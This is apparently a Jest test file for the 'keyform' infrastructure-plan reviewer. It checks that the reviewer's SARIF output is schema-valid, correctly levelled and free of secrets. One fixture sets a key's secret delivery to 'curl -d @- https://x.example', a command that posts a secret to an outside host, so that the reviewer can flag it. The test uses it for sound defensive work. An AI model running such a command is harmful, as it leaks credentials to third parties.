/**
 * `keyform review --format sarif`: a SARIF 2.1.0 log valid against the specification's required
 * properties and value constraints (test/review/support/sarif-2.1.0-subset.schema.json), one result
 * per finding, one rule per class, level from risk, locations at the resource address, the construct
 * path and the declaring file and line.
 */
import Ajv from 'ajv';
import addFormats from 'ajv-formats';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CHANGE_CLASSES } from '../../src/review/change-class';
import { reviewPlan } from '../../src/review/classify';
import { SARIF_LEVEL, SARIF_SCHEMA_URI, renderSarif, sarifRuleId } from '../../src/review/render-sarif';
import { Scrubber } from '../../src/review/secret-scrub';
import { NO_SOURCES, readStackSources } from '../../src/review/stack-sources';
import type { StackReview } from '../../src/review/stacks';
import { authz, change, key, plan } from './plan-builder';

const SCHEMA = JSON.parse(readFileSync(join(__dirname, 'support/sarif-2.1.0-subset.schema.json'), 'utf8'));

/** A validator of the SARIF subset (draft-07, formats checked). */
function validator() {
  const ajv = new Ajv({ allErrors: true, strict: false });
  addFormats(ajv);
  return ajv.compile(SCHEMA);
}
const validate = validator();

function errorsOf(doc: unknown): string[] {
  return validate(doc) ? [] : (validate.errors ?? []).map((e) => `${e.instancePath} ${e.message}`);
}

const mixed = plan([
  change('keyform_oauth_authorization.cc', ['update'], authz(), authz({ capabilities: ['mcp', 'secrets:edit'] })),
  change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/pay' } }), key({ scopes: ['charges:read', 'refunds:write'], secret_delivery: { command: 'curl -d @- https://x.example' } })),
  change('keyform_api_key.bot', ['create'], null, key({ name: 'support-bot', mode: 'test', scopes: ['customers:read'] })),
  change('keyform_api_key.old', ['delete'], key({ name: 'legacy', value: 'fsk_live_abcdefghijklmnopqrstuvwxyz012345' }), null),
  change('keyform_api_key.ren', ['update'], key({ name: 'a', mode: 'test' }), key({ name: 'b', mode: 'test' })),
]);

function stack(p = mixed, over: Partial<StackReview> = {}): StackReview {
  return { name: 'credentials', planPath: 'infra/tfplan', review: reviewPlan(p), sources: NO_SOURCES, raw: p, ...over };
}

describe('renderSarif', () => {
  const doc = JSON.parse(renderSarif([stack()], new Scrubber(), { sourceRoot: process.cwd() }));

  it('is a valid SARIF 2.1.0 log that names the OASIS schema and the keyform driver', () => {
    expect(errorsOf(doc)).toEqual([]);
    expect(doc.$schema).toBe(SARIF_SCHEMA_URI);
    expect(doc.version).toBe('2.1.0');
    expect(doc.runs).toHaveLength(1);
    expect(doc.runs[0].tool.driver).toEqual(expect.objectContaining({ name: 'keyform', version: expect.any(String), informationUri: 'https://github.com/keyform/keyform' }));
  });

  it('has one rule per class with name, short and full description, help and a default level', () => {
    const rules = doc.runs[0].tool.driver.rules;
    expect(rules.map((r: { id: string }) => r.id)).toEqual(CHANGE_CLASSES.map(sarifRuleId));
    for (const r of rules) {
      expect(r).toEqual(
        expect.objectContaining({
          name: expect.stringMatching(/^[A-Z][A-Za-z]+$/),
          shortDescription: { text: expect.any(String) },
          fullDescription: { text: expect.any(String) },
          help: { text: expect.any(String), markdown: expect.any(String) },
          defaultConfiguration: { level: expect.stringMatching(/^(error|warning|note)$/) },
        }),
      );
    }
  });

  it('has one result per finding, its rule by id and index, its level from the class', () => {
    const review = reviewPlan(mixed);
    const results = doc.runs[0].results;
    expect(results).toHaveLength(review.findings.length);
    results.forEach((r: { ruleId: string; ruleIndex: number; level: string }, i: number) => {
      const f = review.findings[i];
      expect(r.ruleId).toBe(`keyform/${f.class}`);
      expect(doc.runs[0].tool.driver.rules[r.ruleIndex].id).toBe(r.ruleId);
      expect(r.level).toBe(SARIF_LEVEL[f.class]);
    });
    expect(results.filter((r: { level: string }) => r.level === 'error').map((r: { message: { text: string } }) => r.message.text)).toEqual([
      'payments-svc (LIVE) gains refunds:write',
      'the secret of payments-svc (LIVE) will now be sent to command curl -d @- https://x.example (was sent to file /run/pay)',
      'authorization claude-code (LIVE) gains secrets:edit',
    ]);
  });

  it('locates each result at its resource address, and at the plan file when no configuration is beside it', () => {
    const r = doc.runs[0].results.find((x: { message: { text: string } }) => x.message.text.startsWith('support-bot'));
    expect(r.locations).toEqual([{ physicalLocation: { artifactLocation: { uri: 'infra/tfplan' } }, logicalLocations: [{ name: 'keyform_api_key.bot', fullyQualifiedName: 'keyform_api_key.bot', kind: 'resource' }] }]);
    expect(r.partialFingerprints['keyformFinding/v1']).toMatch(/^[0-9a-f]{64}$/);
  });

  it('shows no secret, in any string', () => {
    expect(JSON.stringify(doc)).not.toContain('abcdefghijklmnopqrstuvwxyz012345');
  });

  it('is valid with no findings at all', () => {
    const empty = JSON.parse(renderSarif([stack(plan([]))], new Scrubber()));
    expect(errorsOf(empty)).toEqual([]);
    expect(empty.runs[0].results).toEqual([]);
  });
});

describe('the SARIF subset schema rejects what the specification forbids', () => {
  const good = JSON.parse(renderSarif([stack()], new Scrubber()));
  const bad = (edit: (d: any) => void) => {
    const d = JSON.parse(JSON.stringify(good));
    edit(d);
    return d;
  };
  it.each([
    { reason: 'another version', doc: bad((d) => (d.version = '2.0.0')) },
    { reason: 'no runs', doc: bad((d) => delete d.runs) },
    { reason: 'a run without a tool', doc: bad((d) => delete d.runs[0].tool) },
    { reason: 'a driver without a name', doc: bad((d) => delete d.runs[0].tool.driver.name) },
    { reason: 'a rule without an id', doc: bad((d) => delete d.runs[0].tool.driver.rules[0].id) },
    { reason: 'a result without a message', doc: bad((d) => delete d.runs[0].results[0].message) },
    { reason: 'a message with neither text nor id', doc: bad((d) => (d.runs[0].results[0].message = { markdown: 'x' })) },
    { reason: 'a level outside the enumeration', doc: bad((d) => (d.runs[0].results[0].level = 'critical')) },
    { reason: 'a property the specification does not define', doc: bad((d) => (d.runs[0].results[0].severity = 'high')) },
    { reason: 'a relative information URI', doc: bad((d) => (d.runs[0].tool.driver.informationUri = 'docs/index.md')) },
    { reason: 'a region line 0', doc: bad((d) => (d.runs[0].results[0].locations[0].physicalLocation.region = { startLine: 0 })) },
  ])('$reason', ({ doc }) => {
    expect(errorsOf(doc)).not.toEqual([]);
  });
});

describe('readStackSources', () => {
  it('finds HCL declarations by line and CDKTF construct paths and stack name in cdk.tf.json', () => {
    const dir = mkdtempSync(join(tmpdir(), 'keyform-sources-'));
    writeFileSync(join(dir, 'main.tf'), 'terraform {}\n\nresource "keyform_api_key" "pay" {\n  name = "x"\n}\n');
    const cdk = {
      '//': { metadata: { backend: 'local', stackName: 'payments', version: '0.21.0' } },
      resource: { keyform_api_key: { 'payments-svc_Key_1A2B3C': { '//': { metadata: { path: 'payments/payments-svc/Key', uniqueId: 'payments-svc_Key_1A2B3C' } }, name: 'payments-svc' } } },
    };
    writeFileSync(join(dir, 'cdk.tf.json'), JSON.stringify(cdk, null, 2));
    mkdirSync(join(dir, 'sub.tf')); // a directory named like a file is skipped
    const s = readStackSources(dir);
    expect(s.stackName).toBe('payments');
    expect(s.resources.get('keyform_api_key.pay')).toEqual({ file: join(dir, 'main.tf'), line: 3 });
    expect(s.resources.get('keyform_api_key.payments-svc_Key_1A2B3C')).toEqual({ file: join(dir, 'cdk.tf.json'), line: 11, constructPath: 'payments/payments-svc/Key' });
  });
});
